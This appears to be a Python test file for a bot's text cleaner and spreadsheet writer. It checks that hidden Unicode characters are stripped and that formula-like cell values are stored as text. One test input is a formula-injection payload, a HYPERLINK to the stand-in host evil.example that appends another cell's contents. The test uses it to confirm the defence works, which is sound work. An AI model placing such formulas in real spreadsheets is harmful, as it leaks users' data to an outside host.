"""Free text cleaning and text-only spreadsheet cells."""

from __future__ import annotations

import io

import openpyxl

from bot.domain.text_clean import clean_text, has_hidden_characters
from bot.render.xlsx_text import append, looks_like_formula, put


def test_direction_overrides_and_zero_width_are_removed() -> None:
    assert clean_text("abc\u202e<script>") == "abc<script>"
    assert clean_text("Bu\u200bdi") == "Budi"
    assert clean_text("\ufeffNama\u2066x\u2069") == "Namax"
    assert has_hidden_characters("a\u200bb")
    assert not has_hidden_characters("Budi Santoso")


def test_letters_accents_emoji_and_line_breaks_stay() -> None:
    text = "Kendala: José 👍 👨\u200d👩\u200d👧\nbaris dua\tkolom"
    assert clean_text(text) == text
    assert clean_text("e\u0301") == "é"  # one form for the same letter
    assert clean_text("a\x07b\x00c") == "abc"


def test_formula_like_strings_are_stored_as_text() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    put(sheet, 1, 1, '=HYPERLINK("http://evil.example/?x="&B2,"Klik di sini")')
    put(sheet, 2, 1, "=1+1")
    put(sheet, 3, 1, 42)
    append(sheet, ["+62 812", "@SUM(A1)", "biasa", 3.5])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    loaded = openpyxl.load_workbook(buffer).active
    for row in loaded.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    assert loaded["A2"].value == "=1+1"
    assert loaded["A3"].value == 42
    assert loaded["B4"].value == "@SUM(A1)"
    assert looks_like_formula("-5 kegiatan")
    assert not looks_like_formula(-5)
